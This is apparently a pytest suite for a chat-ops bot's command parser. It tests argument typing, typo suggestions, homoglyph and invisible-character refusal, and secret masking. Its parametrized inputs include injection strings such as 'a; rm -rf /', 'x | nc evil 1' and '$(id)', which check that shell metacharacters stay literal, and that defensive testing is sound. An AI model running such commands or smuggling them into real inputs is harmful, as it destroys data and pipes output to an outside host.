"""The parser as a chat user meets it: what runs, what is refused, and what the refusal says."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from opsroom.commands import Catalog, ChoiceLists, arg, extract, parse
from opsroom.core import ArgType, CommandSpec, Invocation, ParseError, Place, Principal, RunnerSpec

CONFIG = r"""
lists:
  services: {values: [api-gateway, payments, search]}
commands:
  deploy:
    summary: Deploy a version of a service to an environment
    aliases: [ship]
    examples: ["deploy api-gateway staging", "deploy payments production version=v4.13.0"]
    args:
      - {name: service, type: choice, choices_from: services}
      - {name: env, type: enum, values: [dev, staging, production]}
      - {name: version, type: string, pattern: '^v?[0-9][0-9A-Za-z.\-]*$', required: false, default: latest}
      - {name: force, type: bool, required: false, default: false}
    runner: {type: exec, argv: ["deploy", "{service}", "{env}", "{version}"]}
    timeout: 10m
    lock: "deploy:{service}:{env}"
  say:
    summary: Say something
    args:
      - {name: text, max_length: 200}
    runner: {type: exec, argv: [echo, "{text}"]}
  scale:
    summary: Scale a service
    args:
      - {name: service, type: choice, choices_from: services}
      - {name: replicas, type: int, min: 1, max: 20}
      - {name: drain, type: duration, required: false, default: 5m, max: 1h, positional: false}
    runner: {type: exec, argv: [scale]}
  login:
    summary: Store a token
    args:
      - {name: token, secret: true, pattern: '^[a-z0-9]{8}$'}
    runner: {type: exec, argv: [login]}
"""

ALICE = Principal("alice", roles=frozenset({"sre"}))
OPS = Place("web", "ops", channel_name="#ops")


@pytest.fixture(scope="module")
def catalog() -> Catalog:
    cfg = yaml.safe_load(CONFIG)
    return Catalog.from_config(cfg["commands"], [], Path("."), ChoiceLists(cfg["lists"]), plugins=False)


def run(text: str, catalog: Catalog, **kw: object) -> Invocation:
    return parse(text, catalog, ALICE, OPS, **kw)  # type: ignore[arg-type]


def refused(text: str, catalog: Catalog) -> ParseError:
    with pytest.raises(ParseError) as info:
        parse(text, catalog, ALICE, OPS)
    message = str(info.value)
    assert "\n" not in message, "errors are one line"
    return info.value


# --- what works --------------------------------------------------------------------------


def test_positional_args_fill_in_order_and_defaults_apply(catalog: Catalog) -> None:
    inv = run("deploy api-gateway staging", catalog)
    assert inv.name == "deploy"
    assert dict(inv.args) == {"service": "api-gateway", "env": "staging", "version": "latest", "force": False}
    assert inv.principal == ALICE and inv.place == OPS
    assert inv.raw_text == "deploy api-gateway staging"


def test_alias_key_value_and_engine_flag(catalog: Catalog) -> None:
    inv = run("ship payments production version=v4.13.0 --dry-run", catalog)
    assert inv.name == "deploy"
    assert inv.args["version"] == "v4.13.0"
    assert dict(inv.flags) == {"dry_run": True}


def test_engine_flags_are_absent_unless_given(catalog: Catalog) -> None:
    assert dict(run("deploy search dev", catalog).flags) == {}


def test_enum_and_choice_match_case_insensitively_and_return_canonical_values(catalog: Catalog) -> None:
    inv = run("DEPLOY Payments PRODUCTION", catalog)
    assert (inv.args["service"], inv.args["env"]) == ("payments", "production")


def test_keys_may_come_before_positionals(catalog: Catalog) -> None:
    inv = run("deploy env=dev search", catalog)
    assert (inv.args["service"], inv.args["env"]) == ("search", "dev")


@pytest.mark.parametrize(
    "text, expected",
    [
        ("deploy search dev --force", True),
        ("deploy search dev --no-force", False),
        ("deploy search dev force=true", True),
        ("deploy search dev force=no", False),
        ("deploy search dev --force=yes", True),
    ],
)
def test_bool_spellings(catalog: Catalog, text: str, expected: bool) -> None:
    assert run(text, catalog).args["force"] is expected


@pytest.mark.parametrize(
    "text",
    [
        "deploy search dev --version v2",
        "deploy search dev --version=v2",
        "deploy search dev version=v2",
        "deploy search dev v2",
        "deploy search dev 'v2'",
    ],
)
def test_value_spellings(catalog: Catalog, text: str) -> None:
    assert run(text, catalog).args["version"] == "v2"


def test_quoted_values_keep_spaces(catalog: Catalog) -> None:
    assert run('say "hello there, world"', catalog).args["text"] == "hello there, world"
    assert run("say text='a=b c'", catalog).args["text"] == "a=b c"


def test_double_dash_ends_options(catalog: Catalog) -> None:
    assert run("say -- --not-an-option", catalog).args["text"] == "--not-an-option"


def test_curly_double_quotes_from_phone_keyboards_work(catalog: Catalog) -> None:
    assert run("say \u201chello world\u201d", catalog).args["text"] == "hello world"


def test_int_and_duration_are_typed(catalog: Catalog) -> None:
    inv = run("scale payments 3 --drain 90s", catalog)
    assert inv.args == {"service": "payments", "replicas": 3, "drain": 90}
    assert run("scale payments 3", catalog).args["drain"] == 300
    assert run("scale payments 3 drain=1h", catalog).args["drain"] == 3600


def test_fullwidth_command_name_normalises(catalog: Catalog) -> None:
    assert run("ｄｅｐｌｏｙ api-gateway staging", catalog).name == "deploy"


def test_trailing_newline_is_stripped(catalog: Catalog) -> None:
    assert run("deploy search dev\n", catalog).args["env"] == "dev"
    assert run("deploy search dev\r\n", catalog).args["env"] == "dev"


# --- shell metacharacters are just characters ----------------------------------------------


@pytest.mark.parametrize("value", ["$(id)", "`id`", "a; rm -rf /", "x | nc evil 1", "&& reboot", "${HOME}"])
def test_shell_metacharacters_stay_literal_in_a_patternless_string(catalog: Catalog, value: str) -> None:
    inv = run(f"say '{value}'", catalog)
    assert inv.args["text"] == value


def test_shell_metacharacters_are_refused_by_a_pattern(catalog: Catalog) -> None:
    err = refused('deploy search dev "$(id)"', catalog)
    assert "`version`" in str(err) and "format" in str(err)


def test_unquoted_semicolon_is_part_of_the_value_not_a_separator(catalog: Catalog) -> None:
    # "say hi;" "id" would be two values: one too many, nothing runs.
    err = refused("say hi; id", catalog)
    assert "too many values" in str(err)


# --- errors that say what is allowed --------------------------------------------------------


def test_unknown_command_suggests_the_closest(catalog: Catalog) -> None:
    err = refused("deplyo api staging", catalog)
    assert str(err) == "unknown command `deplyo` — did you mean `deploy`?"
    assert err.suggestion == "deploy"


def test_unknown_command_without_a_close_match_points_to_help(catalog: Catalog) -> None:
    assert "try `help`" in str(refused("frobnicate", catalog))


def test_homoglyph_command_name_does_not_run(catalog: Catalog) -> None:
    err = refused("d\u0435ploy api-gateway staging", catalog)  # Cyrillic е
    assert "did you mean `deploy`?" in str(err)
    assert "U+0435" in str(err)


def test_wrong_enum_lists_values_and_suggests(catalog: Catalog) -> None:
    err = refused("deploy payments stagin", catalog)
    assert str(err) == "`env` must be one of dev, staging, production — did you mean `staging`?"
    assert err.suggestion == "staging"


def test_homoglyph_enum_value_is_refused(catalog: Catalog) -> None:
    err = refused("deploy payments st\u0430ging", catalog)  # Cyrillic а
    assert "did you mean `staging`?" in str(err)


def test_unknown_choice_suggests_from_the_dynamic_list(catalog: Catalog) -> None:
    err = refused("deploy paymnets production", catalog)
    assert "did you mean `payments`?" in str(err)
    assert "api-gateway, payments, search" in str(err)


def test_missing_required_arg_names_it_and_shows_usage(catalog: Catalog) -> None:
    err = refused("deploy payments", catalog)
    assert str(err) == "missing `env` — usage: deploy <service> <env> [version=latest] [--force]"


def test_too_many_positionals(catalog: Catalog) -> None:
    err = refused("deploy payments dev v1 extra", catalog)
    assert "too many values" in str(err) and "`extra`" in str(err)


def test_unknown_key_lists_known_ones_and_suggests(catalog: Catalog) -> None:
    err = refused("deploy payments dev verison=v1", catalog)
    assert "unknown argument `verison`" in str(err)
    assert "service, env, version, force" in str(err)
    assert "did you mean `version`?" in str(err)


def test_unknown_option(catalog: Catalog) -> None:
    assert "unknown argument `--forse`" in str(refused("deploy payments dev --forse", catalog))


def test_same_arg_twice_is_refused(catalog: Catalog) -> None:
    err = refused("deploy payments staging env=production", catalog)
    assert "`env` is given twice" in str(err)
    assert "given twice" in str(refused("deploy payments dev --dry-run --dry-run", catalog))


def test_int_range_and_type(catalog: Catalog) -> None:
    assert str(refused("scale payments 0", catalog)) == "`replicas` must be between 1 and 20"
    assert "whole number" in str(refused("scale payments three", catalog))
    assert "whole number" in str(refused("scale payments \u0663", catalog))  # Arabic-Indic 3


def test_duration_errors_say_the_format_and_the_limit(catalog: Catalog) -> None:
    assert "like 90s, 15m, 2h or 1d" in str(refused("scale payments 2 drain=10", catalog))
    assert str(refused("scale payments 2 drain=2h", catalog)) == "`drain` must be at most 1h"


def test_option_without_value(catalog: Catalog) -> None:
    assert "`--version` needs a value" in str(refused("deploy payments dev --version", catalog))


def test_help_flag_answers_with_usage_and_runs_nothing(catalog: Catalog) -> None:
    assert "usage: deploy <service>" in str(refused("deploy --help", catalog))


def test_empty_command(catalog: Catalog) -> None:
    assert "empty command" in str(refused("   ", catalog))


def test_empty_value_is_refused(catalog: Catalog) -> None:
    assert str(refused('say ""', catalog)) == "`text` is empty"


# --- input hygiene ------------------------------------------------------------------------


def test_ten_thousand_character_argument_is_refused_clearly(catalog: Catalog) -> None:
    err = refused("say " + "a" * 10_000, catalog)
    assert str(err) == "message too long (10,004 characters; at most 2,000)"


def test_argument_over_its_max_length_is_refused(catalog: Catalog) -> None:
    err = refused("say " + "a" * 300, catalog)
    assert str(err) == "`text` is too long (300 characters; at most 200)"


@pytest.mark.parametrize(
    "text",
    [
        "deploy search dev\nrm -rf /",
        "deploy search dev\rnext",
        "say hello\x00world",
        "say hello\x1b[31mred",
        "say \u202eevil",  # right-to-left override (Trojan Source)
        "say zero\u200bwidth",
        "deploy search dev\u2028v2",
        "say tab\there",
        "say del\x7fete",
    ],
)
def test_control_and_invisible_characters_are_refused(catalog: Catalog, text: str) -> None:
    err = refused(text, catalog)
    assert "not allowed" in str(err) and "position" in str(err)


def test_unbalanced_quotes_get_a_clear_message(catalog: Catalog) -> None:
    assert "unbalanced quotes" in str(refused("say 'hello", catalog))
    assert "unbalanced quotes" in str(refused('say "hello', catalog))


def test_backslashes_reach_the_command_as_typed(catalog: Catalog) -> None:
    # shlex would have made these "anb" and "hello" (or refused): unquoted backslashes are kept.
    assert run("say a\\nb", catalog).args["text"] == "a\\nb"
    assert run("say hello\\", catalog).args["text"] == "hello\\"
    assert run('say "C:\\temp\\new"', catalog).args["text"] == "C:\\temp\\new"


def test_long_echoed_values_are_shortened_and_backticks_neutralised(catalog: Catalog) -> None:
    err = refused("deploy `" + "x" * 150 + " dev", catalog)
    assert "x" * 60 not in str(err)
    assert "``" not in str(err)


# --- secrets ------------------------------------------------------------------------------


def test_secret_values_are_masked_in_raw_text_and_never_echoed(catalog: Catalog) -> None:
    inv = run("login token=abcd1234", catalog)
    assert inv.args["token"] == "abcd1234"
    assert "abcd1234" not in inv.raw_text and inv.raw_text.startswith("login token=")
    assert "abcd1234" not in run("login abcd1234", catalog).raw_text
    assert "abcd1234" not in inv.canonical()
    err = refused("login NOT-A-TOKEN-xyz", catalog)
    assert "NOT-A-TOKEN" not in str(err)
    err = refused("login abcd1234 token=abcd1234", catalog)
    assert "abcd1234" not in str(err)


# --- engine flags -------------------------------------------------------------------------


def test_engine_flags_with_values(catalog: Catalog) -> None:
    flags = {"dry-run": bool, "break-glass": str, "change": str}
    inv = run('deploy search dev --break-glass "db is down" --change=CHG0012345', catalog, engine_flags=flags)
    assert dict(inv.flags) == {"break_glass": "db is down", "change": "CHG0012345"}
    with pytest.raises(ParseError, match="needs a value"):
        run("deploy search dev --change", catalog, engine_flags=flags)
    inv = run("deploy search dev --no-dry-run", catalog, engine_flags=flags)
    assert inv.flags["dry_run"] is False


def test_unknown_list_at_parse_time_is_a_clear_error() -> None:
    lists = ChoiceLists({"services": {"values": ["a"]}})

    def boom() -> list[str]:
        raise RuntimeError("backend down")

    lists.register("clusters", boom)
    spec = CommandSpec(
        "use",
        summary="x",
        args=(arg("cluster", ArgType.CHOICE, choices_from="clusters"),),
        runner=RunnerSpec("exec", {"argv": ["x"]}),
    )
    catalog = Catalog([spec], lists)
    with pytest.raises(ParseError, match="`clusters` list is unavailable"):
        parse("use prod", catalog, ALICE, OPS)


# --- extract ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text, expected",
    [
        ("/deploy x", "deploy x"),
        ("!deploy x", "deploy x"),
        ("@opsroom deploy x", "deploy x"),
        ("@OpsRoom: deploy x", "deploy x"),
        ("opsroom: deploy x", "deploy x"),
        ("opsroom, deploy x", "deploy x"),
        ("  /deploy x\n", "deploy x"),
        ("／deploy x", "deploy x"),  # full-width slash
        ("@opsroom", ""),
    ],
)
def test_extract_finds_commands(text: str, expected: str) -> None:
    assert extract(text, addressed=False) == expected


@pytest.mark.parametrize(
    "text",
    [
        "deploy x",
        "I will deploy later",
        "opsroom is slow today",
        "@opsroomfan hi",
        "/usr/bin is full",
        "! not a command",
        "/ ",
        "",
        "what about /deploy?",
        "!!!",
    ],
)
def test_extract_ignores_plain_chat(text: str) -> None:
    assert extract(text, addressed=False) is None


def test_extract_addressed_takes_the_text_itself() -> None:
    assert extract("deploy x", addressed=True) == "deploy x"
    assert extract("/deploy x", addressed=True) == "deploy x"


def test_extract_other_bot_names() -> None:
    assert extract("@ops deploy x", addressed=False, bot_names=("ops",)) == "deploy x"
    assert extract("@opsroom deploy x", addressed=False, bot_names=("ops",)) is None


def test_a_unique_prefix_is_suggested_but_never_accepted(catalog: Catalog) -> None:
    err = refused("deploy payments prod", catalog)
    assert str(err).endswith("did you mean `production`?")


def test_text_that_grows_under_nfkc_is_still_capped(catalog: Catalog) -> None:
    err = refused("say " + "\ufdfa" * 1000, catalog)  # each expands to 18 characters
    assert str(err).startswith("message too long (18,004 characters")


# --- greedy arguments ---------------------------------------------------------------------


def greedy_catalog() -> Catalog:
    audit = CommandSpec(
        "audit", summary="Search", builtin=True, args=(arg("query", required=False, greedy=True, max_length=50),)
    )
    deny = CommandSpec(
        "deny",
        summary="Deny",
        builtin=True,
        args=(
            arg("id", ArgType.INT, min=1),
            arg("reason", required=False, greedy=True),
            arg("notify", ArgType.BOOL, default=True),
            arg("level", ArgType.ENUM, values=("low", "high"), required=False, positional=False),
        ),
    )
    return Catalog([audit, deny], ChoiceLists())


def test_greedy_argument_takes_the_remaining_words() -> None:
    catalog = greedy_catalog()
    assert run("audit rollback since last tuesday", catalog).args == {"query": "rollback since last tuesday"}
    assert run("audit", catalog).args == {}
    inv = run("deny 42 not during the sale --no-notify level=high", catalog)
    assert inv.args == {"id": 42, "reason": "not during the sale", "notify": False, "level": "high"}
    assert run('deny 42 "not during the sale"', catalog).args["reason"] == "not during the sale"


def test_greedy_words_keep_unknown_key_value_tokens_as_text() -> None:
    inv = run("audit user:bob command=deploy since=monday", greedy_catalog())
    assert inv.args["query"] == "user:bob command=deploy since=monday"


def test_greedy_argument_still_has_a_length_limit_and_refuses_repeats() -> None:
    catalog = greedy_catalog()
    assert "`query` is too long" in str(refused("audit " + "word " * 20, catalog))
    assert "given twice" in str(refused("audit x query=y", catalog))
